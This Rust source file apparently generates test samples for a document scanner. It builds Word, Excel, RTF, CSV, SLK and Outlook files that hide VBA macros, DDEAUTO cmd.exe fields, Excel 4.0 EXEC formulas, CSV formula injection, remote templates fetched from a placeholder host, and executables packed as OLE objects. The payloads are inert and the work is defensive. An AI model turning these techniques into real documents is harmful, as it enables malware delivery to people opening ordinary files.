//! Tricks of Office documents: code, links and programs inside files that people open every day.

use super::File;
use super::pack::zip;
use super::payloads::{DOCUMENT, RELS, docm, pe, vba};
use std::io::{Cursor, Write};

const MACRO: &[&str] = &["macro.found"];
const ACTIVE: &[&str] = &["active.found", "script.found"];
const PROGRAM: &[&str] = &["executable.found", "active.found"];
const LOCKED: &[&str] = &["archive.encrypted"];

const MAIN: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const SHEET: &str = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";
const OFFICE: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/// Every file of this page.
pub fn all() -> Vec<File> {
    let mut files = Vec::new();
    let mut add = |construct: &str, name, finds, bytes| {
        files.push(File { construct: format!("document/{construct}"), name, finds, bytes });
    };
    word(&mut add);
    excel(&mut add);
    ole(&mut add);
    files
}

type Add<'a> = dyn FnMut(&str, &'static str, &'static [&'static str], Vec<u8>) + 'a;

/// A Word document with these further parts and relations of its main part.
fn docx(relations: &str, body: &str, parts: &[(&str, &[u8])]) -> Vec<u8> {
    let types = format!(
        "<?xml version=\"1.0\"?><Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">\
         <Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>\
         <Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>\
         <Override PartName=\"/word/document.xml\" ContentType=\"{MAIN}\"/></Types>"
    );
    let relations = format!(
        "<?xml version=\"1.0\"?><Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">{relations}</Relationships>"
    );
    let document = DOCUMENT.replace("<w:body>", &format!("<w:body>{body}"));
    let mut members: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("_rels/.rels", RELS.as_bytes()),
        ("word/document.xml", document.as_bytes()),
        ("word/_rels/document.xml.rels", relations.as_bytes()),
    ];
    members.extend(parts);
    zip(&members)
}

fn relation(kind: &str, target: &str, external: bool) -> String {
    let mode = if external { " TargetMode=\"External\"" } else { "" };
    format!("<Relationship Id=\"rId9\" Type=\"{kind}\" Target=\"{target}\"{mode}/>")
}

fn word(add: &mut Add<'_>) {
    for name in [
        "bieu-mau.docm",
        "bieu-mau.doc",
        "bieu-mau.docx",
        "bieu-mau.rtf",
        "bieu-mau.zip",
        "bieu-mau",
    ] {
        add(&format!("docm-as-{}", name.replace('.', "-")), name, MACRO, docm());
    }
    let vba = vba();
    let kind = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
    add(
        "vba-in-docx",
        "bieu-mau.docx",
        MACRO,
        docx(&relation(kind, "vbaProject.bin", false), "", &[("word/vbaProject.bin", &vba)]),
    );
    add(
        "vba-renamed",
        "bieu-mau.docx",
        MACRO,
        docx(&relation(kind, "anh.png", false), "", &[("word/anh.png", &vba)]),
    );
    add("vba-upper-case", "bieu-mau.docx", MACRO, docx("", "", &[("WORD/VBAPROJECT.BIN", &vba)]));
    let template = format!("{OFFICE}/attachedTemplate");
    add(
        "template",
        "van-ban.docx",
        ACTIVE,
        docx(
            "",
            "",
            &[(
                "word/_rels/settings.xml.rels",
                format!(
                    "<Relationships>{}</Relationships>",
                    relation(&template, "http://may-chu.example/a.dotm", true)
                )
                .as_bytes(),
            )],
        ),
    );
    add(
        "template-unc",
        "van-ban.docx",
        ACTIVE,
        docx(&relation(&template, "file:///\\\\may-chu.example\\a.dotm", true), "", &[]),
    );
    let object = format!("{OFFICE}/oleObject");
    add(
        "external-object",
        "van-ban.docx",
        ACTIVE,
        docx(&relation(&object, "http://may-chu.example/a.html!", true), "", &[]),
    );
    add(
        "external-mhtml",
        "van-ban.docx",
        ACTIVE,
        docx(
            &relation(
                &object,
                "mhtml:http://may-chu.example/a.html!x-usc:http://may-chu.example/a.html",
                true,
            ),
            "",
            &[],
        ),
    );
    add(
        "external-frame",
        "van-ban.docx",
        ACTIVE,
        docx(&relation(&format!("{OFFICE}/frame"), "http://may-chu.example/a.rtf", true), "", &[]),
    );
    add(
        "ole-package",
        "van-ban.docx",
        PROGRAM,
        docx(
            &relation(&object, "embeddings/oleObject1.bin", false),
            "",
            &[("word/embeddings/oleObject1.bin", &package("hd.exe", &pe()))],
        ),
    );
    add("program-member", "van-ban.docx", PROGRAM, docx("", "", &[("word/media/anh.png", &pe())]));
    add(
        "zip-member",
        "van-ban.docx",
        PROGRAM,
        docx("", "", &[("word/embeddings/a.zip", &zip(&[("so-lieu.dat", &pe())]))]),
    );
    let chunk = format!("{OFFICE}/aFChunk");
    add(
        "alternative-chunk",
        "van-ban.docx",
        MACRO,
        docx(
            &relation(&chunk, "a.docm", false),
            "<w:altChunk r:id=\"rId9\"/>",
            &[("word/a.docm", &docm())],
        ),
    );
    for (word, field) in [
        ("dde", "<w:fldSimple w:instr=\"DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k echo&quot;\"/>".to_owned()),
        ("dde-runs", "<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\cmd.exe</w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r></w:p>".to_owned()),
    ] {
        add(word, "van-ban.docx", ACTIVE, docx("", &field, &[]));
    }
    let control = format!("{OFFICE}/control");
    add("activex", "van-ban.docx", ACTIVE, docx(&relation(&control, "activeX/activeX1.xml", false), "", &[
        ("word/activeX/activeX1.xml", b"<ax:ocx xmlns:ax=\"http://schemas.microsoft.com/office/2006/activeX\" ax:classid=\"{D27CDB6E-AE6D-11CF-96B8-444553540000}\"/>"),
        ("word/activeX/activeX1.bin", b"\0\0\0\0"),
    ]));
}

fn excel(add: &mut Add<'_>) {
    let types = |more: &str| {
        format!(
            "<Types><Default Extension=\"xml\" ContentType=\"application/xml\"/><Override PartName=\"/xl/workbook.xml\" ContentType=\"{SHEET}\"/>{more}</Types>"
        )
    };
    let rels = RELS.replace("word/document.xml", "xl/workbook.xml");
    let book = "<workbook><sheets><sheet name=\"A\" sheetId=\"1\" r:id=\"rId1\" state=\"veryHidden\"/></sheets></workbook>";
    let with = |more: &str, parts: &[(&str, &[u8])]| {
        let types = types(more);
        let mut members = vec![
            ("[Content_Types].xml", types.as_bytes()),
            ("_rels/.rels", rels.as_bytes()),
            ("xl/workbook.xml", book.as_bytes()),
        ];
        members.extend(parts);
        zip(&members)
    };
    add("xlsm", "bang.xls", MACRO, with("", &[("xl/vbaProject.bin", &vba())]));
    let sheet = b"<xm:macrosheet xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData><row r=\"1\"><c r=\"A1\"><f>EXEC(\"cmd /c echo\")</f></c></row></sheetData></xm:macrosheet>";
    let kind = "<Override PartName=\"/xl/macrosheets/sheet1.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>";
    add("xlm-sheet", "bang.xlsx", MACRO, with(kind, &[("xl/macrosheets/sheet1.xml", sheet)]));
    let kind = "<Override PartName=\"/xl/a.xml\" ContentType=\"application/vnd.ms-excel.macrosheet+xml\"/>";
    add("xlm-sheet-elsewhere", "bang.xlsx", MACRO, with(kind, &[("xl/a.xml", sheet)]));
    let link = b"<externalLink><ddeLink ddeService=\"cmd\" ddeTopic=\"/c echo\"><ddeItems/></ddeLink></externalLink>";
    add("dde-link", "bang.xlsx", ACTIVE, with("", &[("xl/externalLinks/externalLink1.xml", link)]));
    // BIFF8: a workbook stream with a hidden Excel 4.0 macro sheet (BOUNDSHEET, type 1).
    let mut stream = b"\x09\x08\x10\0\0\x06\x05\0\xbb\x0d\xcc\x07\0\0\0\0\x06\0\0\0".to_vec();
    stream.extend(b"\x85\0\x0e\0\x40\0\0\0\x02\x01\x06\0Macro1");
    stream.extend(b"\x0a\0\0\0");
    stream.resize(64, 0);
    stream.extend(b"\x09\x08\x10\0\0\x06\x40\0\xbb\x0d\xcc\x07\0\0\0\0\x06\0\0\0\x0a\0\0\0");
    stream.resize(4096, 0);
    add("xls-xlm", "bang.xls", MACRO, compound(&[("/Workbook", &stream)]));
    add("csv-dde", "bang.csv", ACTIVE, b"ten,so\r\n=cmd|'/c echo xin chao'!A1,1\r\n".to_vec());
    add(
        "slk",
        "bang.slk",
        &["active.found", "macro.found"],
        b"ID;P\r\nO;E\r\nNN;NAuto_open;ER101C1\r\nC;X1;Y101;EEXEC(\"cmd /c echo\")\r\nE\r\n"
            .to_vec(),
    );
}

/// An OLE file of these streams; folders are made as needed.
fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).unwrap();
    for (path, bytes) in streams {
        if let Some((folder, _)) = path.rsplit_once('/').filter(|(folder, _)| !folder.is_empty()) {
            file.create_storage_all(folder).unwrap();
        }
        file.create_stream(path).unwrap().write_all(bytes).unwrap();
    }
    file.flush().unwrap();
    file.into_inner().into_inner()
}

/// An OLE package (`\x01Ole10Native`): what a person sees as an icon in the text.
fn package(name: &str, bytes: &[u8]) -> Vec<u8> {
    let mut native = b"\x02\0".to_vec();
    native.extend([name.as_bytes(), b"\0C:\\a\\", name.as_bytes(), b"\0\0\0\x03\0"].concat());
    let temporary = format!("C:\\t\\{name}\0");
    native.extend((temporary.len() as u32).to_le_bytes());
    native.extend(temporary.bytes());
    native.extend((bytes.len() as u32).to_le_bytes());
    native.extend(bytes);
    let sized = [&(native.len() as u32).to_le_bytes()[..], &native].concat();
    compound(&[("/\u{1}Ole10Native", &sized)])
}

fn ole(add: &mut Add<'_>) {
    let inner = vba();
    let mut project = cfb::CompoundFile::open(Cursor::new(&inner[..])).unwrap();
    let mut read = |path: &str| {
        let mut bytes = Vec::new();
        std::io::Read::read_to_end(&mut project.open_stream(path).unwrap(), &mut bytes).unwrap();
        bytes
    };
    let (dir, module) = (read("/VBA/dir"), read("/VBA/ThisDocument"));
    let text = [b"\xec\xa5\xc1\0".to_vec(), vec![0; 1600]].concat();
    let doc = compound(&[
        ("/WordDocument", &text),
        ("/Macros/VBA/dir", &dir),
        ("/Macros/VBA/ThisDocument", &module),
    ]);
    for name in ["van-ban.doc", "van-ban.docx", "van-ban.pdf", "van-ban"] {
        add(&format!("doc-vba-as-{}", name.replace('.', "-")), name, MACRO, doc.clone());
    }
    let book = vec![0; 4096];
    add(
        "xls-vba",
        "bang.xls",
        MACRO,
        compound(&[
            ("/Workbook", &book),
            ("/_VBA_PROJECT_CUR/VBA/dir", &dir),
            ("/_VBA_PROJECT_CUR/VBA/Sheet1", &module),
        ]),
    );
    add(
        "xls-vba-upper",
        "bang.xls",
        MACRO,
        compound(&[
            ("/Workbook", &book),
            ("/_vba_project_cur/vba/DIR", &dir),
            ("/_vba_project_cur/vba/Sheet1", &module),
        ]),
    );
    add(
        "doc-package",
        "van-ban.doc",
        PROGRAM,
        compound(&[
            ("/WordDocument", &text),
            ("/ObjectPool/_1/\u{1}Ole10Native", &{
                let bytes = package("hd.exe", &pe());
                let mut file = cfb::CompoundFile::open(Cursor::new(&bytes[..])).unwrap();
                let mut native = Vec::new();
                std::io::Read::read_to_end(
                    &mut file.open_stream("/\u{1}Ole10Native").unwrap(),
                    &mut native,
                )
                .unwrap();
                native
            }),
        ]),
    );
    add(
        "locked-docx",
        "van-ban.docx",
        LOCKED,
        compound(&[
            ("/EncryptionInfo", b"\x04\0\x04\0\x40\0\0\0<encryption/>"),
            ("/EncryptedPackage", &[7; 600]),
        ]),
    );
    let hex: String = package("hd.exe", &pe()).iter().map(|byte| format!("{byte:02x}")).collect();
    let class = "0105000002000000080000005061636b616765000000000000000000";
    let size: String =
        (hex.len() as u32 / 2).to_le_bytes().iter().map(|b| format!("{b:02x}")).collect();
    let rtf = |open: &str, data: &str| {
        format!(
            "{open}{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {data}}}}} xin chao}}"
        )
        .into_bytes()
    };
    let data = format!("{class}{size}{hex}");
    add("rtf-package", "van-ban.rtf", PROGRAM, rtf("{\\rtf1\\ansi ", &data));
    add("rtf-package-as-doc", "van-ban.doc", PROGRAM, rtf("{\\rtf1 ", &data));
    add("rtf-short-head", "van-ban.doc", PROGRAM, rtf("{\\rt", &data));
    add(
        "rtf-blanks",
        "van-ban.rtf",
        PROGRAM,
        rtf(
            "{\\rtf1 ",
            &data
                .as_bytes()
                .chunks(7)
                .map(|c| String::from_utf8_lossy(c).into_owned())
                .collect::<Vec<_>>()
                .join("\r\n "),
        ),
    );
    add(
        "rtf-groups",
        "van-ban.rtf",
        PROGRAM,
        rtf("{\\rtf1 ", &data.replacen("4d5a", "4d{\\*\\x}5a", 1)),
    );
    add(
        "rtf-template",
        "van-ban.rtf",
        ACTIVE,
        b"{\\rtf1\\ansi{\\*\\template http://may-chu.example/a.dotm} xin chao}".to_vec(),
    );
    add("rtf-dde", "van-ban.rtf", ACTIVE, b"{\\rtf1{\\field{\\*\\fldinst {DDEAUTO c:\\\\\\\\windows\\\\\\\\cmd.exe \"/k echo\"}}{\\fldrslt x}}}".to_vec());
    add("rtf-equation", "van-ban.rtf", ACTIVE, b"{\\rtf1{\\object\\objemb\\objupdate{\\*\\objclass Equation.3}{\\*\\objdata 01050000020000000b0000004571756174696f6e2e330000000000000000000400000041424344}}}".to_vec());
    let msg = compound(&[
        ("/__properties_version1.0", &[0; 32]),
        ("/__substg1.0_0037001F", &utf16("Ho so")),
        ("/__attach_version1.0_#00000000/__properties_version1.0", &[0; 8]),
        ("/__attach_version1.0_#00000000/__substg1.0_3707001F", &utf16("so-lieu.dat")),
        ("/__attach_version1.0_#00000000/__substg1.0_37010102", &pe()),
    ]);
    add("msg", "thu.msg", PROGRAM, msg.clone());
    add("msg-renamed", "thu.dat", PROGRAM, msg);
}

pub fn utf16(text: &str) -> Vec<u8> {
    text.encode_utf16().flat_map(u16::to_le_bytes).collect()
}
